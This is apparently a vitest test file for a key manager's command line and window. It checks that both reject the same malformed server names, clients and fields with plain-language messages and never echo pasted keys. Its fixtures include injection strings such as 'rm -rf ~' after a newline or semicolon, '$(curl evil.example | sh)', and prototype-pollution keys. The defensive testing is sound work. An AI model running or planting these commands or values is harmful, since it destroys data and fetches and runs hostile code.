import { afterEach, describe, expect, it } from 'vitest'
import { cliIn } from '../../support/cli'
import { testContext } from '../../support/context'

const open: Array<Awaited<ReturnType<typeof testContext>>> = []
afterEach(async () => {
  for (const c of open.splice(0)) await c.ctx.close()
})

// Input a person (or a script) could type, that no config file should ever receive.
const badServerNames = [
  ['a newline', 'acme\nrm -rf ~'],
  ['a command substitution', '$(curl evil.example | sh)'],
  ['__proto__', '__proto__x/'],
  ['300 characters', 'a'.repeat(300)],
  ['a space', 'my server']
] as const

describe('the command line refuses exactly what the window refuses', () => {
  it('refuses the same bad server names with the same message, and writes nothing', async () => {
    const c = await testContext()
    open.push(c)
    const { key } = await c.ctx.api.keys.create({ providerId: 'sandbox', name: 'k' })
    for (const [what, name] of badServerNames) {
      const fromWindow = await c.ctx.dispatch('bindings.preview', { keyId: key.id, client: 'cursor', scope: 'global', serverName: name })
      expect(fromWindow.ok, what).toBe(false)
      const message = fromWindow.ok ? '' : fromWindow.error.message
      expect(message, what).toContain('Server names use letters, digits, dot, dash and underscore')
      const fromCli = await cliIn(c.ctx, 'inject', 'k', '--client', 'cursor', '--name', name, '--yes')
      expect(fromCli.code, what).toBe(2)
      expect(fromCli.err, what).toBe(`keywarden: ${message}`)
    }
    expect(await c.ctx.api.bindings.list()).toEqual([])
    expect(await c.ctx.api.changes.list()).toEqual([])
  })

  it('refuses a key pasted as the server name, or a name every object has, masked and the same both ways', async () => {
    const c = await testContext()
    open.push(c)
    const { key } = await c.ctx.api.keys.create({ providerId: 'sandbox', name: 'k' })
    const value = (await c.ctx.api.keys.reveal({ keyId: key.id })).secret
    const github = `ghp_${'a1B2c3D4e5'.repeat(3)}f6G7h8`
    const cases = [
      [value, /is the key "k", and a server name is written into the client's file as plain text/],
      [github, /is a GitHub key/],
      ['__proto__', /reserved/],
      ['constructor', /reserved/]
    ] as const
    for (const [name, why] of cases) {
      const fromWindow = await c.ctx.dispatch('bindings.preview', { keyId: key.id, client: 'cursor', scope: 'global', serverName: name })
      const message = fromWindow.ok ? '' : fromWindow.error.message
      expect(message, name.slice(0, 8)).toMatch(why)
      const fromCli = await cliIn(c.ctx, 'inject', 'k', '--client', 'cursor', '--name', name, '--yes')
      expect(fromCli.code).toBe(2)
      expect(fromCli.err).toBe(`keywarden: ${message}`)
      if (name.length > 20) for (const text of [message, fromCli.out, fromCli.err]) expect(text).not.toContain(name.slice(8))
    }
    // Pasted into the scope or project field instead: refused, and the key is not repeated back.
    for (const args of [
      ['--scope', github],
      ['--scope', 'project', '--project', github]
    ]) {
      const refused = await cliIn(c.ctx, 'inject', 'k', '--client', 'cursor', ...args, '--yes')
      expect(refused.code).toBe(2)
      expect(refused.err + refused.out).not.toContain(github.slice(8))
    }
    expect(await c.ctx.api.bindings.list()).toEqual([])
    expect(await c.ctx.api.changes.list()).toEqual([])
  })

  it('refuses the same unknown client, placement and key name, in plain words', async () => {
    const c = await testContext()
    open.push(c)
    const { key } = await c.ctx.api.keys.create({ providerId: 'sandbox', name: 'k' })
    const cases: Array<{ method: string; input: Record<string, unknown>; args: string[] }> = [
      {
        method: 'bindings.preview',
        input: { keyId: key.id, client: 'notepad', scope: 'user' },
        args: ['inject', 'k', '--client', 'notepad', '--scope', 'user']
      },
      {
        method: 'bindings.preview',
        input: { keyId: key.id, client: 'Cursor; rm -rf ~', scope: 'global' },
        args: ['inject', 'k', '--client', 'Cursor; rm -rf ~', '--scope', 'global']
      },
      {
        method: 'bindings.preview',
        input: { keyId: key.id, client: 'cursor', scope: 'global', placement: 'telepathy' },
        args: ['inject', 'k', '--client', 'cursor', '--placement', 'telepathy']
      },
      { method: 'keys.create', input: { providerId: 'sandbox', name: ' ' }, args: ['keys', 'create', '--name', ' '] },
      {
        method: 'keys.create',
        input: { providerId: 'sandbox', name: 'x'.repeat(300) },
        args: ['keys', 'create', '--name', 'x'.repeat(300)]
      }
    ]
    for (const { method, input, args } of cases) {
      const fromWindow = await c.ctx.dispatch(method, input)
      expect(fromWindow.ok, method).toBe(false)
      const message = fromWindow.ok ? '' : fromWindow.error.message
      const fromCli = await cliIn(c.ctx, ...args)
      expect(fromCli.err, args.join(' ')).toBe(`keywarden: ${message}`)
      // Words, not the schema library's: no "Too small", no "expected", no raw regex.
      expect(message).not.toMatch(/Too (small|big)|expected|Invalid (input|option)|\/\^/)
      expect(message.length).toBeLessThan(300)
    }
    expect((await c.ctx.api.keys.list()).map((k) => k.name)).toEqual(['k'])
  })

  it('says what is wrong with a number in words, and cuts a hostile field name short', async () => {
    const c = await testContext({ sandbox: 'off' })
    open.push(c)
    const days = await c.ctx.dispatch('providers.setRotationDays', { providerId: 'sandbox', days: 0 })
    expect(days).toEqual({ ok: false, error: { code: 'invalid-input', message: '"days" must be at least 1.' } })
    const field = 'x'.repeat(5000)
    const extra = await c.ctx.dispatch('keys.list', { [field]: 1, constructor: 2, __proto__: { polluted: true } })
    expect(extra.ok).toBe(false)
    if (!extra.ok) {
      expect(extra.error.message.length).toBeLessThan(200)
      expect(extra.error.message).toContain('Keywarden does not know')
    }
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
  })
})
